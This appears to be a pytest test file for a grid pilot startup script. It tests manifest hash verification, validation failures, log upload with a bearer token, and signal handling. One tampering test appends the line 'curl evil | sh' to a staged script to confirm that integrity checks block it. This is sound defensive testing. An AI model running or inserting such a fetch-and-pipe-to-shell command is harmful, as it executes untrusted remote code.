"""The real pilot against a real HTTP server: verification, validation, JSON logs.

Every test runs glidein_startup.sh as a process (the bundled single-file pilot from the
staging area unless stated) with --validate-only or stops before HTCondor otherwise.
"""

from __future__ import annotations

import signal
import subprocess
import time
from pathlib import Path

import pytest
from glidein_helpers import GLIDEIN, attachment

from gwms_core import staging

TOKEN = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJnbGlkZWluIn0.LOG-TOKEN-SECRET-7731"

SCRIPT_FAIL = b"""#!/bin/bash
printf 'scratch is read-only: "/scratch" \\\\ tab\\there\\n'
printf 'second line on stderr\\n' >&2
exit 1
"""


def messages(records: list[dict[str, object]]) -> list[str]:
    return [str(r["message"]) for r in records]


def test_verified_staging_validates_and_advertises(stage, run_pilot) -> None:
    served = stage(params={"GLIDEIN_CPUS": 1, "GLIDEIN_MEMORY": 512})
    run = run_pilot(served, "--validate-only", "--keep-work-dir", "--entry", "e1",
                    "--factory", "f1", "--frontend", "fe", "--group", "g1",
                    "--param", "GLIDEIN_MEMORY=700")
    assert run.returncode == 0, run.stderr
    msgs = messages(run.log_records())
    assert any(m.startswith(f"staging verified: {len(served.manifest.entries)} file(s)")
               for m in msgs)
    assert "6 setup script(s) passed" in msgs
    assert msgs[-2].startswith("validation passed")
    (work,) = run.work_dirs()
    attrs = dict(line.split("=", 1) for line in (work / "glidein.attrs").read_text().splitlines())
    assert attrs["GLIDEIN_Entry_Name"] == "e1"
    assert attrs["GLIDECLIENT_Group"] == "g1"
    assert attrs["GLIDEIN_CPUS"] == "1"
    assert attrs["GLIDEIN_MEMORY"] == "700"  # --param wins over glidein.params
    assert attrs["SiteWMS_WN_Draining"] == "false"
    # quiet on success: nothing on stdout, only the kept-work-dir notice on stderr
    assert run.stdout == ""
    assert "work directory kept" in run.stderr


def test_source_form_pilot_runs_too(stage, run_pilot) -> None:
    served = stage()
    run = run_pilot(served, "--validate-only", pilot=GLIDEIN / "glidein_startup.sh")
    assert run.returncode == 0, run.stderr


def test_work_dir_removed_at_exit(stage, run_pilot) -> None:
    run = run_pilot(stage(), "--validate-only")
    assert run.returncode == 0, run.stderr
    assert run.work_dirs() == []


def test_tampered_file_stops_before_anything_runs(stage, run_pilot, tmp_path: Path) -> None:
    marker = tmp_path / "ran"
    vo = f"#!/bin/bash\ntouch {marker}\n".encode()
    served = stage(scripts=(staging.Script("vo/first.sh", "factory", 0),),
                   extra={"vo/first.sh": vo})
    target = served.dir / "scripts" / "gwms_os.sh"
    target.write_bytes(target.read_bytes() + b"\ncurl evil | sh\n")
    run = run_pilot(served, "--validate-only", "--keep-work-dir")
    assert run.returncode == 3
    assert "scripts/gwms_os.sh: sha256 mismatch" in run.stderr
    records = run.log_records()
    assert not marker.exists()
    assert not any("script" in m and " ok in " in m for m in messages(records))
    assert records[-2]["severity"] == "error"
    assert "staging failed, nothing was run: scripts/gwms_os.sh" in str(records[-2]["message"])
    (work,) = run.work_dirs()
    assert not (work / "stage" / "scripts" / "gwms_os.sh").exists()


def test_wrong_manifest_hash_is_reported(stage, run_pilot) -> None:
    served = stage()
    (served.dir / staging.MANIFEST_NAME).write_text(
        served.manifest.text.replace(served.manifest.entries[0].sha256, "0" * 64))
    run = run_pilot(served, "--validate-only")
    assert run.returncode == 3
    assert "manifest.sha256: sha256 mismatch" in run.stderr


def test_missing_staged_file_is_named(stage, run_pilot) -> None:
    served = stage()
    (served.dir / "lib" / "attrs.sh").unlink()
    run = run_pilot(served, "--validate-only")
    assert run.returncode == 3
    assert "lib/attrs.sh: download from" in run.stderr


@pytest.mark.parametrize("tool", ["curl", "wget", "python3"])
def test_failing_validation_script_output_in_json_log_and_log_server(
        stage, run_pilot, logserver, tmp_path: Path, tool: str) -> None:
    token_file = tmp_path / "log.token"
    token_file.write_text(TOKEN + "\n")
    token_file.chmod(0o600)
    served = stage(scripts=(*staging.BUILTIN_SCRIPTS,
                            staging.Script("vo/check_scratch.sh", "group", 10)),
                   extra={"vo/check_scratch.sh": SCRIPT_FAIL})
    run = run_pilot(served, "--validate-only", "--failure-sleep", "0", "--keep-work-dir",
                    "--log-url", logserver.url, "--log-token-file", str(token_file),
                    env={"GWMS_HTTP_TOOL": tool})
    assert run.returncode == 1, run.stderr
    records = run.log_records()
    failed = [r for r in records if "file" in r]
    assert len(failed) == 1
    rec = failed[0]
    assert rec["severity"] == "error"
    assert rec["script"] == "glidein_startup.sh"
    assert "vo/check_scratch.sh (group) failed validation (exit 1)" in rec["message"]
    out = attachment(rec).decode()
    assert 'scratch is read-only: "/scratch" \\ tab\there' in out
    assert "second line on stderr" in out
    assert any("sleeping 0s (black-hole protection)" in m for m in messages(records))
    # flushed before the black-hole sleep and at exit: two uploads, in order, complete
    assert len(logserver.uploads) == 2
    first, second = logserver.uploads
    assert first.headers["authorization"] == f"Bearer {TOKEN}"
    assert first.headers["content-type"] == "application/x-ndjson"
    assert first.headers["x-gwms-log-offset"] == "0"
    assert int(second.headers["x-gwms-log-offset"]) == len(first.body)
    (work,) = run.work_dirs()
    assert first.body + second.body == (work / "log" / "glidein.jsonl").read_bytes()
    assert logserver.records()[-1]["message"] == "glidein exiting with status 1"
    # the token is nowhere but in its own file
    assert "LOG-TOKEN-SECRET" not in run.stdout + run.stderr
    for path in work.rglob("*"):
        if path.is_file():
            assert b"LOG-TOKEN-SECRET" not in path.read_bytes(), path


def test_script_error_is_not_a_node_failure(stage, run_pilot) -> None:
    served = stage(scripts=(staging.Script("vo/broken.sh", "frontend", 1),),
                   extra={"vo/broken.sh": b"#!/bin/bash\necho syntax trouble\nexit 2\n"})
    run = run_pilot(served, "--validate-only", "--keep-work-dir", "--failure-sleep", "3600")
    assert run.returncode == 4
    records = run.log_records()
    assert attachment(next(r for r in records if "file" in r)) == b"syntax trouble\n"
    assert not any("black-hole" in m for m in messages(records))


def test_sigterm_during_a_script_ends_the_pilot_promptly(stage, tmp_path: Path) -> None:
    """A batch system's SIGTERM is handled while a slow script runs, and cleans up."""
    served = stage(scripts=(staging.Script("vo/slow.sh", "entry", 1),),
                   extra={"vo/slow.sh": b"#!/bin/bash\nsleep 300\n"})
    parent = tmp_path / "t"
    parent.mkdir()
    proc = subprocess.Popen(
        [str(served.dir / "glidein_startup.sh"), "--manifest-url",
         f"{served.url}/{staging.MANIFEST_NAME}", "--manifest-sha256",
         served.manifest.digest, "--validate-only"],
        env={"PATH": "/usr/bin:/bin", "TMPDIR": str(parent)},
        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    # wait until the slow script runs (its output file exists)
    for _ in range(600):
        if list(parent.glob("glidein.*/log/scripts/vo__slow.sh.out")):
            break
        time.sleep(0.05)
    else:
        proc.kill()
        raise AssertionError("slow script never started")
    proc.send_signal(signal.SIGTERM)
    _, err = proc.communicate(timeout=30)
    assert proc.returncode == 128 + signal.SIGTERM
    assert "received SIGTERM: ending" in err
    assert list(parent.glob("glidein.*")) == []


def test_usage_and_work_dir_errors(stage, run_pilot, tmp_path: Path) -> None:
    served = stage()
    assert run_pilot(served, "--no-such-option").returncode == 2
    run = run_pilot(served, "--validate-only", "--work-dir", str(tmp_path / "missing"))
    assert run.returncode == 6
    assert "not a directory" in run.stderr
    help_run = subprocess.run([str(GLIDEIN / "glidein_startup.sh"), "--help"],
                              capture_output=True, text=True, check=True)
    assert "--manifest-sha256 HEX" in help_run.stdout


def test_no_condor_is_reported_after_validation(stage, run_pilot) -> None:
    """Without --validate-only, a node with no HTCondor stops with status 5."""
    run = run_pilot(stage(), "--collector", "cm.example:9618",
                    env={"PATH": "/usr/bin:/bin"})
    assert run.returncode == 5
    assert "no condor tarball staged and no condor_master on PATH" in run.stderr


def test_failed_validation_keeps_the_batch_slot_occupied(stage, tmp_path: Path) -> None:
    """Black-hole protection at startup: after a validation failure the pilot stays alive
    (holding its batch slot) for --failure-sleep seconds; it has already said why, and a
    batch system's SIGTERM still ends it at once."""
    served = stage(scripts=(staging.Script("vo/check_scratch.sh", "group", 10),),
                   extra={"vo/check_scratch.sh": SCRIPT_FAIL})
    parent = tmp_path / "t"
    parent.mkdir()
    proc = subprocess.Popen(
        [str(served.dir / "glidein_startup.sh"), "--manifest-url",
         f"{served.url}/{staging.MANIFEST_NAME}", "--manifest-sha256",
         served.manifest.digest, "--validate-only", "--failure-sleep", "600",
         "--keep-work-dir"],
        env={"PATH": "/usr/bin:/bin", "TMPDIR": str(parent)},
        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    wanted = "node unusable; sleeping 600s (black-hole protection)"
    for _ in range(1200):
        logs = list(parent.glob("glidein.*/log/glidein.jsonl"))
        if logs and wanted in logs[0].read_text():
            break
        time.sleep(0.05)
    else:
        proc.kill()
        raise AssertionError("the validation failure was never logged")
    time.sleep(1)
    assert proc.poll() is None  # still holding the slot after saying why
    proc.send_signal(signal.SIGTERM)
    _, err = proc.communicate(timeout=30)
    assert proc.returncode == 128 + signal.SIGTERM, err
